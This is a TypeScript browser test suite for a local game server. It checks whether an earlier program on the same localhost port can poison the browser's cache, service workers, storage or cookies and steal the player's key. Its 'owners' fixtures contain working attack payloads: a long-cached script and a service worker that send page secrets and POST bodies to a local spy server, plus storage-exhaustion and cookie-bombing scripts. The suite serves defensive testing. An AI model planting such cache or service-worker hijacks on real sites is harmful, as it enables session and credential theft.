import { createHash, X509Certificate } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type RequestListener, type Server } from 'node:http';
import { createServer as createSecureServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { drawHost, onlyHost, type PageHost } from '../../../src/daemon/page/page-host.ts';
import { Authority, hasOpenssl } from '../../support/certificates.ts';
import { machineHas } from '../../support/machine.ts';
import { openPlayer } from '../support/client.ts';
import { startWorldPlace } from '../support/world-place.ts';
import { chromiumBrowser, executablePath } from './browser.ts';

/**
 * Servers that had the page's port before, on the hosts that every local server has, and what they
 * left in the browser: then the page is opened there.
 */

/** Hosts of this machine that nobody draws. */
const formerHosts = ['127.0.0.1', 'localhost', 'page.localhost'];

const isHere = machineHas(chromiumBrowser, 'former owners of the port of the page');

/** A browser that keeps what it has, as a player's does. */
let profile: string;
let context: BrowserContext;
let page: Page;
/** Hears what the former owner's code has learnt. */
let spy: Server;
let stolen: string[];
let isStolen: PromiseWithResolvers<void>;
let spyUrl: string;

describe.skipIf(!isHere)('a browser', () => {
  beforeEach(async () => {
    stolen = [];
    isStolen = Promise.withResolvers();
    spy = await listen((request, response) => {
      request.setEncoding('utf8');
      let body = '';
      request.on('data', (text) => {
        body += text;
      });
      request.on('end', () => {
        response.end('thanks');
        if (request.url === '/favicon.ico') return;
        stolen.push(`${request.url}${body}`);
        isStolen.resolve();
      });
    });
    spyUrl = `http://127.0.0.1:${portOf(spy)}/`;
    profile = mkdtempSync(join(tmpdir(), 'gamekeeper-profile-'));
    await openBrowser();
  });
  afterEach(async () => {
    await context.close();
    spy.close();
    rmSync(profile, { recursive: true, force: true });
  });

  describe.each(['linux', 'darwin'] as const)('where the host is as on %s', (system) => {
    test.each(Object.keys(owners))('behaviour: %s of former owners is of no use', async (kind) => {
      expect(await openAfter(kind, drawHost(system))).toBe('the player is in');
      expect(stolen).toEqual([]);
    });
  });

  test('behaviour: Safari, which resolves no such name, gets in without it', async () => {
    const userAgent = 'Mozilla/5.0 (Macintosh) AppleWebKit/605.1.15 Version/18.0 Safari/605.1.15';
    const safari = await context.browser()!.newContext({ userAgent });
    page = await safari.newPage();
    expect(await openAfter('cookies', drawHost('darwin'))).toBe('the player is in');
    expect(new URL(page.url()).hostname).toBe(onlyHost.name);
    await safari.close();
  });

  const withCertificate = test.skipIf(!hasOpenssl);
  // Seen with another name, in the same browser, as it does not hold for names of this machine.
  withCertificate('behaviour: no name of this machine is for HTTPS alone', async () => {
    const authority = new Authority(join(profile, 'authority'));
    const { cert, key } = authority.sign('DNS:localhost,DNS:farm.test');
    const forEver = { 'strict-transport-security': 'max-age=31536000; includeSubDomains' };
    const secure = createSecureServer({ cert, key }, (_, response) => {
      response.writeHead(200, forEver).end('secure');
    });
    await new Promise<void>((resolve) => secure.listen(0, '127.0.0.1', resolve));
    const { publicKey } = new X509Certificate(cert);
    const pin = createHash('sha256').update(publicKey.export({ type: 'spki', format: 'der' }));
    await context.close();
    await openBrowser(`--ignore-certificate-errors-spki-list=${pin.digest('base64')}`);
    for (const host of ['localhost', 'farm.test']) {
      await page.goto(`https://${host}:${portOf(secure)}/`);
    }
    const onFarm = page.goto(spyUrl.replace('127.0.0.1', 'sub.farm.test'));
    await expect(onFarm).rejects.toThrow('ERR_SSL_PROTOCOL_ERROR');
    page = await context.newPage();
    expect(await openAfter('storage', drawHost('darwin'))).toBe('the player is in');
    await new Promise((resolve) => secure.close(resolve));
  });

  // Otherwise the tests above would hold for an adversary that can do nothing.
  test.each(['cache', 'worker'])('behaviour: on a host that it had, %s wins', async (kind) => {
    expect(await openAfter(kind, onlyHost)).toBe('stolen');
  });

  test('behaviour: cookies keep nobody out, even on a host that their owner had', async () => {
    expect(await openAfter('cookies', onlyHost)).toBe('the player is in');
  });
});

/** The browser, with the profile that it had before. */
async function openBrowser(...more: readonly string[]): Promise<void> {
  const names = '--host-resolver-rules=MAP *.test 127.0.0.1';
  const args = ['--no-sandbox', '--disable-dev-shm-usage', names, ...more];
  context = await chromium.launchPersistentContext(profile, { executablePath, args });
  page = await context.newPage();
}

/** What comes of a page that is opened where an adversary was. */
async function openAfter(kind: string, host: PageHost): Promise<string> {
  const former = await listen((request, response) => owners[kind]!(request, response));
  const port = portOf(former);
  for (const name of formerHosts) {
    await page.goto(`http://${name}:${port}/`);
    await expect.poll(() => page.title(), { timeout: 30_000 }).toBe('poisoned');
  }
  former.closeAllConnections();
  await new Promise((resolve) => former.close(resolve));
  const place = await startWorldPlace({ strict: true, pagePlace: { host, port } });
  try {
    const player = await openPlayer(place.home);
    const { file, url } = await player.call('player.openPage');
    expect(new URL(url).hostname).toBe(host.name);
    await page.goto(`file://${file}`);
    const isIn = page.getByRole('navigation').waitFor({ timeout: 60_000 });
    const outcome = await Promise.any([
      isIn.then(() => 'the player is in'),
      isStolen.promise.then(() => 'stolen'),
    ]);
    await player.close();
    return outcome;
  } finally {
    await place.close();
  }
}

/** What a former owner serves, by what it leaves. */
const owners: Readonly<Record<string, RequestListener>> = {
  cache({ url }, response) {
    // The script that takes the key out of the answer to a code.
    const script = `const main = document.querySelector('main');
      if (main) location = '${spyUrl}?' + JSON.stringify(main.dataset);
      else document.title = 'poisoned';`;
    const isScript = url === '/src/page/enter.ts';
    response.writeHead(200, {
      'content-type': isScript ? 'text/javascript' : 'text/html',
      'cache-control': 'public, max-age=31536000, immutable',
    });
    response.end(isScript ? script : '<script type="module" src="/src/page/enter.ts"></script>');
  },
  worker({ url }, response) {
    const isWorker = url === '/worker.js';
    response.writeHead(200, { 'content-type': isWorker ? 'text/javascript' : 'text/html' });
    const worker = `
      self.addEventListener('install', () => self.skipWaiting());
      self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
      self.addEventListener('fetch', (event) => {
        if (event.request.method !== 'POST') return;
        event.respondWith((async () => {
          const body = await event.request.text();
          await fetch('${spyUrl}', { method: 'POST', mode: 'no-cors', body });
          return new Response('yours no more');
        })());
      });`;
    const document = `<script>
      navigator.serviceWorker.register('/worker.js');
      navigator.serviceWorker.ready.then(() => { document.title = 'poisoned'; });
    </script>`;
    response.end(isWorker ? worker : document);
  },
  storage(_, response) {
    // What the page keeps in its tab, by any name; and no room for more.
    const document = `<script type="module">
      const names = ['gamekeeper-key', 'gamekeeper-language'];
      for (const storage of [sessionStorage, localStorage]) {
        for (const name of names) storage.setItem(name, '{"id":"0","secret":"0"}');
        for (let size = 2 ** 20; size > 0; size >>= 1) {
          try {
            for (let i = 0; ; i += 1) storage.setItem(size + ' ' + i, 'x'.repeat(size));
          } catch {}
        }
      }
      indexedDB.open('gamekeeper').onsuccess = () => { document.title = 'poisoned'; };
    </script>`;
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end(document);
  },
  cookies(_, response) {
    const value = 'x'.repeat(4000);
    // Also for each name below that of the server.
    const cookies = Array.from({ length: 20 }, (_, i) => {
      const domain = i % 2 === 0 ? '' : '; Domain=localhost';
      return `c${i}=${value}; Max-Age=31536000${domain}`;
    });
    response.writeHead(200, { 'content-type': 'text/html', 'set-cookie': cookies });
    response.end('<title>poisoned</title>');
  },
};

async function listen(listener: RequestListener): Promise<Server> {
  const server = createServer(listener);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server;
}

function portOf(server: Pick<Server, 'address'>): number {
  return (server.address() as AddressInfo).port;
}
